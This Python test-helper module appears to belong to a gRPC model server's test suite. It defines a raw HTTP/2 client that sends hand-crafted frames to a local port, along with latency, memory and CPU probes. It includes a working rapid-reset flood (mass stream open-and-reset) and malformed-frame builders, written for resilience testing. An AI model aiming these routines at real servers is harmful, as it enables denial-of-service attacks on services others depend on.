"""A raw HTTP/2 client for attacking the gRPC port: frames serialised and parsed by
``hyperframe`` (the ``h2`` library's frame layer), header blocks coded by ``hpack``, sent
exactly as given (no flow control, no state machine), and what the server sends back.
Plus the measurements the attack rows assert on: a grpcio probe, a worker's RSS and CPU."""

import os
import socket
import struct
import time
from typing import Any, List, Optional, Sequence, Tuple

import grpc
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

from python_runtime.protocols import protos as protos_module

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREDICT = "/seldon.protos.Model/Predict"
REQUEST = [(":method", "POST"), (":scheme", "http"), (":path", PREDICT),
           (":authority", "127.0.0.1"), ("content-type", "application/grpc"),
           ("te", "trailers")]
PROTOS = protos_module.load()
SeldonMessage = PROTOS.message("seldon.protos.SeldonMessage")

# RFC 9113 error codes
NO_ERROR, PROTOCOL_ERROR, FLOW_CONTROL_ERROR, STREAM_CLOSED, FRAME_SIZE_ERROR = 0, 1, 3, 5, 6
ENHANCE_YOUR_CALM = 11


def grpc_message(payload: bytes, compressed: int = 0) -> bytes:
    """One gRPC length-prefixed message."""
    return struct.pack(">BI", compressed, len(payload)) + payload


def predict_request(values: Sequence[float] = (1.0, 2.0)) -> bytes:
    """A Seldon Predict request of one row of ``values`` (a tensor)."""
    message = SeldonMessage()
    message.data.tensor.values.extend(values)
    message.data.tensor.shape.extend([1, len(values)])
    return message.SerializeToString()


def headers(stream_id: int, block: bytes, end_stream: bool = False,
            end_headers: bool = True) -> bytes:
    frame = HeadersFrame(stream_id, block)
    if end_stream:
        frame.flags.add("END_STREAM")
    if end_headers:
        frame.flags.add("END_HEADERS")
    return frame.serialize()


def continuation(stream_id: int, block: bytes = b"", end_headers: bool = False) -> bytes:
    frame = ContinuationFrame(stream_id, block)
    if end_headers:
        frame.flags.add("END_HEADERS")
    return frame.serialize()


def data(stream_id: int, payload: bytes, end_stream: bool = False) -> bytes:
    frame = DataFrame(stream_id, payload)
    if end_stream:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def rst_stream(stream_id: int, code: int = 8) -> bytes:
    return RstStreamFrame(stream_id, error_code=code).serialize()


def ping(opaque: bytes = b"12345678") -> bytes:
    return PingFrame(0, opaque_data=opaque).serialize()


def window_update(stream_id: int, increment: int) -> bytes:
    # (hyperframe refuses an increment of 0 itself: the header is made by hand for that)
    if increment == 0:
        return struct.pack(">IBI", 4 << 8 | 0x8, 0, stream_id) + struct.pack(">I", 0)
    return WindowUpdateFrame(stream_id, window_increment=increment).serialize()


def frame_head(kind: int, flags: int, stream_id: int, length: int) -> bytes:
    """A frame header announcing ``length`` bytes that are never sent."""
    return struct.pack(">IBI", length << 8 | kind, flags, stream_id)


class RawH2(object):
    """One connection to the gRPC port: bytes out as given, frames in as parsed."""

    def __init__(self, port: int, handshake: bool = True, timeout: float = 10.0) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.encoder = hpack.Encoder()
        self.inbuf = b""
        self.received = []  # type: List[Any]
        self.closed = False
        if handshake:
            self.send(PREFACE + SettingsFrame(0).serialize())

    def block(self, fields: Sequence[Tuple[str, str]] = REQUEST) -> bytes:
        return self.encoder.encode(fields)

    def send(self, payload: bytes) -> bool:
        """Whether it all went out (False: the server has closed the connection)."""
        try:
            self.sock.sendall(payload)
            return True
        except OSError:
            return False

    def read(self, timeout: float) -> List[Any]:
        """Frames that arrive within ``timeout`` (or until the server closes)."""
        got = []  # type: List[Any]
        deadline = time.monotonic() + timeout
        while not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(1 << 20)
            except socket.timeout:
                break
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                break
            self.inbuf += chunk
            while len(self.inbuf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
                if len(self.inbuf) < 9 + length:
                    break
                frame.parse_body(memoryview(self.inbuf[9:9 + length]))
                self.inbuf = self.inbuf[9 + length:]
                got.append(frame)
        self.received += got
        return got

    def until(self, predicate: Any, timeout: float) -> Optional[Any]:
        """The first frame (already received or arriving within ``timeout``) for which
        ``predicate`` holds, else None."""
        deadline = time.monotonic() + timeout
        seen = 0
        while True:
            for frame in self.received[seen:]:
                if predicate(frame):
                    return frame
            seen = len(self.received)
            left = deadline - time.monotonic()
            if left <= 0 or self.closed:
                return None
            self.read(min(left, 0.2))

    def goaway(self, timeout: float = 5.0) -> Optional[int]:
        """The error code of the server's GOAWAY, if one comes."""
        frame = self.until(lambda f: isinstance(f, GoAwayFrame), timeout)
        return None if frame is None else frame.error_code

    def reset_code(self, stream_id: int, timeout: float = 5.0) -> Optional[int]:
        frame = self.until(lambda f: isinstance(f, RstStreamFrame)
                           and f.stream_id == stream_id, timeout)
        return None if frame is None else frame.error_code

    def grpc_status(self, stream_id: int, timeout: float = 10.0) -> Optional[str]:
        """The grpc-status of the answer on ``stream_id``."""
        decoder = hpack.Decoder()
        deadline = time.monotonic() + timeout
        seen = 0
        while time.monotonic() < deadline:
            for frame in self.received[seen:]:
                if isinstance(frame, (HeadersFrame, ContinuationFrame)):
                    fields = dict(decoder.decode(frame.data, raw=False))
                    if frame.stream_id == stream_id and "grpc-status" in fields:
                        return fields["grpc-status"]
            seen = len(self.received)
            if self.closed:
                return None
            self.read(0.2)
        return None

    def close(self) -> None:
        self.sock.close()


def rapid_reset(conn: "RawH2", message: bytes, writes: int = 50, per_write: int = 100) -> None:
    """Open and reset ``writes * per_write`` calls (HEADERS, DATA with END_STREAM, RST_STREAM
    each), ``per_write`` to a write; stops early once the server closes the connection."""
    stream_id = 1
    for _ in range(writes):
        batch = []
        for _ in range(per_write):
            batch.append(headers(stream_id, conn.block()) + data(stream_id, message, True)
                         + rst_stream(stream_id))
            stream_id += 2
        if not conn.send(b"".join(batch)):
            break


def probe(port: int, timeout: float = 10.0) -> float:
    """One Predict through grpcio on a new connection: its latency in seconds."""
    started = time.monotonic()
    with grpc.insecure_channel("127.0.0.1:%d" % port, options=[
            ("grpc.use_local_subchannel_pool", 1)]) as channel:
        stub = channel.unary_unary(PREDICT, request_serializer=lambda raw: raw,
                                   response_deserializer=SeldonMessage.FromString)
        answer = stub(predict_request(), timeout=timeout)
    assert list(answer.data.tensor.values) == [1.0, 2.0]
    return time.monotonic() - started


def rss(pid: int) -> int:
    """Resident memory of process ``pid`` (bytes)."""
    with open("/proc/%d/status" % pid) as handle:
        for line in handle:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS for %d" % pid)


def cpu_seconds(pid: int) -> float:
    """User + system CPU time process ``pid`` has used."""
    with open("/proc/%d/stat" % pid) as handle:
        fields = handle.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
